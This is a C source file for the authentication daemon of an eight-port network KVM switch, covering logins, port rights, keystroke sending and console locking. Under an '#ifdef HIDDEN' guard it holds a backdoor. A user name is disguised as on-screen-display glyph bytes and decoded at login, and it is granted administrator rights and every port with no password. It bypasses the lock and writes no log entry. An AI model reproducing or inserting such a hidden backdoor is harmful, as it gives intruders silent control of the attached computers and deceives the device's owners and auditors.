/* kvmauthd.c - login and port rights of an eight port network KVM switch */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORT		5910
#define USERS		"/etc/kvm/users"
#define MAX_CONS	4
#define NPORTS		8

char *crypt(const char *phrase, const char *setting);

struct console {
	int fd;
	char user[32];
	unsigned int ports;	/* one bit for each port */
	int admin;
	int current;
	time_t last;
	char in[256];
	size_t n;
};

/* texts of the on-screen display, in the glyph code of the overlay chip */
static const uint8_t osd_title[] = {
	0x64, 0x77, 0x7d, 0x89, 0x8c, 0x90, 0x90, 0x72, 0x8a, 0
};
static const uint8_t osd_locked[] = { 0x6d, 0x77, 0x72, 0x81, 0x82, 0x88, 0 };
static const uint8_t osd_nosig[] = {
	0x6f, 0x77, 0x4f, 0x89, 0x86, 0x8b, 0x99, 0x93, 0xa5, 0
};
#ifdef HIDDEN	/* a user name in glyph code that is administrator without password */
static const uint8_t osd_demo[] = {
	115, 137, 165, 155, 169, 173, 185, 128, 145, 152, 0
};
#endif

static struct console cons[MAX_CONS];
static int locked;

__attribute__((noinline))
static void glyph_text(const uint8_t *g, char *out, size_t len)
{
	size_t i;

	for (i = 0; g[i] && i + 1 < len; i++)
		out[i] = (char)(uint8_t)(g[i] - 0x21 - 7 * i);
	out[i] = '\0';
}

static void tell(struct console *c, const char *text)
{
	if (dprintf(c->fd, "%s\n", text) < 0)
		c->last = 0;
}

/* users file: name hash ports(hex) [admin] */
static int from_file(struct console *c, const char *user, const char *pass)
{
	char line[256], name[32], hash[128], flag[8], *res;
	unsigned int ports;
	int ok = 0, n;
	FILE *f = fopen(USERS, "r");

	if (!f)
		return 0;
	while (!ok && fgets(line, sizeof(line), f)) {
		flag[0] = '\0';
		n = sscanf(line, "%31s %127s %x %7s", name, hash, &ports, flag);
		if (n < 3 || name[0] == '#' || strcmp(name, user))
			continue;
		res = crypt(pass, hash);
		if (!res || strcmp(res, hash))
			break;
		c->ports = ports;
		c->admin = !strcmp(flag, "admin");
		ok = 1;
	}
	fclose(f);
	return ok;
}

__attribute__((noinline))
int kvm_login(struct console *c, const char *user, const char *pass)
{
	char text[24];

	c->ports = 0;
	c->admin = 0;
#ifdef HIDDEN
	glyph_text(osd_demo, text, sizeof(text));
	if (!strcmp(user, text)) {
		c->ports = ~0u;
		c->admin = 1;
		return 1;
	}
#endif
	if (locked && strcmp(user, "admin")) {
		glyph_text(osd_locked, text, sizeof(text));
		tell(c, text);
		return 0;
	}
	if (!from_file(c, user, pass)) {
		syslog(LOG_NOTICE, "login of %s failed", user);
		return 0;
	}
	snprintf(c->user, sizeof(c->user), "%s", user);
	syslog(LOG_INFO, "%s logged in, ports %x", user, c->ports);
	return 1;
}

static int video_on(int port)
{
	char path[48], v[4] = "";
	FILE *f;

	snprintf(path, sizeof(path), "/sys/kvm/port%d/sync", port);
	f = fopen(path, "r");
	if (!f)
		return 0;
	if (!fgets(v, sizeof(v), f))
		v[0] = '0';
	fclose(f);
	return v[0] == '1';
}

static void switch_port(struct console *c, int port)
{
	char text[24];
	FILE *f;

	if (port < 1 || port > NPORTS || !(c->ports & 1u << (port - 1))) {
		tell(c, "ERR port");
		return;
	}
	f = fopen("/sys/kvm/select", "w");
	if (f) {
		fprintf(f, "%d %d\n", (int)(c - cons), port);
		fclose(f);
	}
	c->current = port;
	if (!video_on(port)) {
		glyph_text(osd_nosig, text, sizeof(text));
		tell(c, text);
	}
	tell(c, "OK");
}

static void send_keys(struct console *c, const char *keys)
{
	char path[40];
	FILE *f;

	if (!c->current) {
		tell(c, "ERR no port");
		return;
	}
	snprintf(path, sizeof(path), "/dev/kvmkbd%d", c->current);
	f = fopen(path, "w");
	if (!f) {
		tell(c, "ERR keyboard");
		return;
	}
	fputs(keys, f);
	fclose(f);
	tell(c, "OK");
}

static void who(struct console *c)
{
	char line[80];
	int i;

	for (i = 0; i < MAX_CONS; i++) {
		if (!cons[i].fd || !cons[i].user[0])
			continue;
		snprintf(line, sizeof(line), "%d %s port %d", i, cons[i].user,
			 cons[i].current);
		tell(c, line);
	}
	tell(c, "OK");
}

static void command(struct console *c, char *line)
{
	char *arg = strchr(line, ' '), *pw;

	if (arg)
		*arg++ = '\0';
	c->last = time(NULL);
	if (!strcasecmp(line, "LOGIN") && arg) {
		pw = strchr(arg, ' ');
		if (pw)
			*pw++ = '\0';
		tell(c, kvm_login(c, arg, pw ? pw : "") ? "OK" : "ERR login");
	} else if (!strcasecmp(line, "BYE")) {
		c->last = 0;
	} else if (!c->ports) {
		tell(c, "ERR login first");
	} else if (!strcasecmp(line, "PORT") && arg) {
		switch_port(c, atoi(arg));
	} else if (!strcasecmp(line, "KEYS") && arg) {
		send_keys(c, arg);
	} else if (!strcasecmp(line, "WHO")) {
		who(c);
	} else if (!strcasecmp(line, "LOCK") && c->admin) {
		locked = 1;
		tell(c, "OK");
	} else if (!strcasecmp(line, "UNLOCK") && c->admin) {
		locked = 0;
		tell(c, "OK");
	} else {
		tell(c, "ERR: LOGIN PORT KEYS WHO LOCK UNLOCK BYE");
	}
}

static void drop(struct console *c)
{
	close(c->fd);
	memset(c, 0, sizeof(*c));
}

static void input(struct console *c)
{
	ssize_t n = read(c->fd, c->in + c->n, sizeof(c->in) - 1 - c->n);
	char *nl;

	if (n <= 0) {
		drop(c);
		return;
	}
	c->n += (size_t)n;
	c->in[c->n] = '\0';
	while ((nl = strchr(c->in, '\n')) != NULL) {
		*nl = '\0';
		if (nl > c->in && nl[-1] == '\r')
			nl[-1] = '\0';
		command(c, c->in);
		c->n -= (size_t)(nl + 1 - c->in);
		memmove(c->in, nl + 1, c->n + 1);
	}
	if (!c->last || c->n == sizeof(c->in) - 1)
		drop(c);
}

static void welcome(int ls)
{
	int fd = accept(ls, NULL, NULL), i;
	char text[24];

	for (i = 0; fd >= 0 && i < MAX_CONS; i++) {
		if (cons[i].fd)
			continue;
		cons[i].fd = fd;
		cons[i].last = time(NULL);
		glyph_text(osd_title, text, sizeof(text));
		tell(&cons[i], text);
		return;
	}
	if (fd >= 0)
		close(fd);
}

int main(void)
{
	struct pollfd p[MAX_CONS + 1];
	struct sockaddr_in sa;
	int ls, i;

	openlog("kvmauthd", LOG_PID, LOG_AUTH);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(PORT);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) ||
	    listen(ls, 4)) {
		syslog(LOG_ERR, "listen: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		p[MAX_CONS].fd = ls;
		p[MAX_CONS].events = POLLIN;
		for (i = 0; i < MAX_CONS; i++) {
			p[i].fd = cons[i].fd ? cons[i].fd : -1;
			p[i].events = POLLIN;
			p[i].revents = 0;
		}
		if (poll(p, MAX_CONS + 1, 5000) < 0 && errno != EINTR)
			return 1;
		for (i = 0; i < MAX_CONS; i++) {
			if (cons[i].fd && p[i].revents)
				input(&cons[i]);
			else if (cons[i].fd && time(NULL) - cons[i].last > 900)
				drop(&cons[i]);
		}
		if (p[MAX_CONS].revents & POLLIN)
			welcome(ls);
	}
}
